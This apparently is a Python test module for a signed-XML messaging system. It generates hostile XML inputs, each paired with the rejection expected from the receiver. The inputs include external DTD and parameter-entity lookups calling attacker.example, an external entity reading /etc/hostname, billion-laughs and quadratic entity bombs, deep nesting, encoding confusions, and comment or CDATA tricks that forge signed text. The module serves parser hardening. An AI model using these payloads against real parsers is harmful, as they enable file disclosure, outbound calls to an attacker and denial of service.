"""Attacks on whoever parses: DTDs, bombs of every kind, encodings, broken documents."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from depesha.schemas.verdict import Rejection
from depesha.simulators.attack_tools import FORGED, Attack, attack

NOT_XML: Final = Rejection.NOT_XML
INVALID: Final = Rejection.SIGNATURE_INVALID
TOO_LARGE: Final = Rejection.MESSAGE_TOO_LARGE
SCHEMA: Final = Rejection.NOT_THE_SCHEMA
WHITESPACE: Final = 50_000_000
_DECLARATION: Final = b'<?xml version="1.0" encoding="utf-8"?>'


def _bare(good: bytes) -> bytes:
    """Return the document from its root element on."""
    return good[good.index(b"?>") + 2 :] if good.startswith(b"<?xml") else good


def doctypes(good: bytes) -> Iterator[Attack]:
    """A DTD has no place in a message, whatever stands in it."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    cases = {
        "dtd-empty": ("<!DOCTYPE Message>", "a DTD is read at all"),
        "dtd-external": (
            '<!DOCTYPE Message SYSTEM "http://attacker.example/x.dtd">',
            "the parser calls the attacker",
        ),
        "dtd-billion-laughs": (
            f'<!DOCTYPE Message [<!ENTITY l0 "ha">{laughs}]>',
            "a kilobyte grows to gigabytes",
        ),
        "dtd-quadratic": (
            f'<!DOCTYPE Message [<!ENTITY q "{"q" * 100_000}">]>',
            "a hundred kilobytes grow to gigabytes",
        ),
        "dtd-external-entity": (
            '<!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
            "a file of the receiver is read into the document",
        ),
        "dtd-parameter-entity": (
            '<!DOCTYPE Message [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>',
            "the parser calls the attacker",
        ),
        "dtd-default-attribute": (
            '<!DOCTYPE Message [<!ATTLIST Message Extra CDATA "1">]>',
            "unsigned values appear in the tree",
        ),
    }
    used = {
        "dtd-billion-laughs": "&l9;",
        "dtd-quadratic": "&q;" * 1_000,
        "dtd-external-entity": "&x;",
    }
    for name, (doctype, why) in cases.items():
        body = _bare(good)
        if name in used:
            body = _into_text(body, used[name].encode())
        yield attack(name, why, _DECLARATION + doctype.encode() + body, NOT_XML)
    remark = b"<!-- " + b"x" * 1_000 + b" -->"
    hidden = _DECLARATION + remark + b"<!DOCTYPE Message>" + _bare(good)
    yield attack("dtd-after-comment", "a short look at the start misses it", hidden, NOT_XML)


def _into_text(body: bytes, added: bytes) -> bytes:
    """Put something at the start of the first text of the body."""
    place = body.index(b">", body.index(b"DocAbout")) + 1 if b"DocAbout" in body else -1
    if place < 0:
        place = body.index(b">", body.index(b"MessageGUID")) + 1
    return body[:place] + added + body[place:]


def texts(good: bytes) -> Iterator[Attack]:
    """Ways to let a reader see another text than was signed."""
    forged = FORGED.encode()
    comment = _into_text(_bare(good), forged + b"<!-- ")
    closed = comment.replace(b"<!-- ", b"<!-- cut -->", 1)
    why = "only the text before the comment is read"
    yield attack("text-comment", why, closed, INVALID)
    why = "only the text before the instruction is read"
    yield attack("text-instruction", why, _into_text(_bare(good), forged + b"<?cut x?>"), INVALID)
    why = "marked text is read apart"
    yield attack(
        "text-cdata", why, _into_text(_bare(good), b"<![CDATA[" + forged + b"]]>"), INVALID
    )
    yield attack(
        "text-null-reference", "text ends at a zero", _into_text(_bare(good), b"&#0;"), NOT_XML
    )
    yield attack("text-unknown-entity", "left unresolved", _into_text(_bare(good), b"&x;"), NOT_XML)


def bombs(good: bytes, *, large: bool) -> Iterator[Attack]:
    """Small things in great number."""
    body = _bare(good)
    start, rest = body.split(b">", 1)
    attributes = b" ".join(b'a%d=""' % n for n in range(100_000))
    yield attack(
        "attributes-100000",
        "sorting them is quadratic",
        start + b" " + attributes + b">" + rest,
        NOT_XML,
    )
    spaces = b" ".join(b'xmlns:n%d="urn:n%d"' % (n, n) for n in range(5_000))
    yield attack(
        "namespaces-5000",
        "looking them up is quadratic",
        start + b" " + spaces + b">" + rest,
        NOT_XML,
    )
    yield attack(
        "nesting-300000", "the stack overflows", start + b">" + b"<a>" * 300_000 + rest, NOT_XML
    )
    nested = b"<a>" * 1_000 + b"</a>" * 1_000
    yield attack("nesting-1000", "the stack overflows later", start + b">" + nested + rest, NOT_XML)
    yield attack(
        "name-long",
        "names are kept for ever",
        start + b"><" + b"n" * 100_000 + b"/>" + rest,
        NOT_XML,
    )
    yield attack(
        "elements-400000",
        "the tree takes all memory",
        start + b">" + b"<a/>" * 400_000 + rest,
        NOT_XML,
    )
    if not large:
        return
    why = "blanks are copied again and again"
    yield attack("whitespace-prolog", why, b" " * WHITESPACE + body, NOT_XML, TOO_LARGE)
    inside = start + b">" + b" " * WHITESPACE + rest
    yield attack("whitespace-inside", why, inside, INVALID, TOO_LARGE)
    in_tag = start + b" " * WHITESPACE + b' x="">' + rest
    yield attack("whitespace-in-tag", why, in_tag, INVALID, TOO_LARGE)
    yield attack(
        "comments-many", why, start + b">" + b"<!---->" * 1_000_000 + rest, NOT_XML, TOO_LARGE
    )


def encodings(good: bytes) -> Iterator[Attack]:
    """Bytes that two readers read differently."""
    text = _bare(good).decode()
    why = "filter and parser read different characters"
    utf7 = b'<?xml version="1.0" encoding="utf-7"?>' + b"+ADw-Message+AD4-"
    yield attack("encoding-utf-7", why, utf7, NOT_XML)
    for name in ("utf-16", "utf-16-le", "utf-32", "windows-1251", "cp500"):
        declared = f'<?xml version="1.0" encoding="{name}"?>'
        content = (declared + text).encode(name, errors="xmlcharrefreplace")
        yield attack(f"encoding-{name}", why, content, NOT_XML)
    start, rest = _bare(good).split(b">", 1)
    broken = {
        "overlong": b"\xc0\xbc",
        "surrogate": b"\xed\xa0\x80",
        "stray-byte": b"\xff",
        "null": b"\x00",
        "control": b"\x01",
    }
    for name, piece in broken.items():
        yield attack(f"bytes-{name}", why, start + b">" + piece + rest, NOT_XML)


def fragments(good: bytes) -> Iterator[Attack]:
    """Documents that are none."""
    body = _bare(good)
    cases = {
        "empty": b"",
        "blank": b" \n ",
        "mark-only": b"\xef\xbb\xbf",
        "declaration-only": _DECLARATION,
        "truncated-half": body[: len(body) // 2],
        "truncated-last": body[:-1],
        "trailing-text": body + b"x",
        "two-roots": body + body,
        "declaration-late": b"\n" + _DECLARATION + body,
        "prefix-unbound": body.replace(b"<Header>", b"<x:Header>").replace(
            b"</Header>", b"</x:Header>"
        ),
        "attribute-twice": body.replace(b"<Header>", b'<Header a="1" a="2">'),
        "not-xml": b"PK\x03\x04" + bytes(1_000),
        "ampersand": body.replace("Писмо".encode(), b"A & B") if b"&" not in body else body[:-2],
    }
    for name, content in cases.items():
        if content != body:
            yield attack(f"broken-{name}", "the reader fails badly", content, NOT_XML)
    why = "another kind of document is taken for a message"
    stranger = b'<Letter xmlns="urn:example:letter"><Text>1</Text></Letter>'
    yield attack("other-document", why, stranger, SCHEMA, Rejection.SIGNATURE_MISSING)
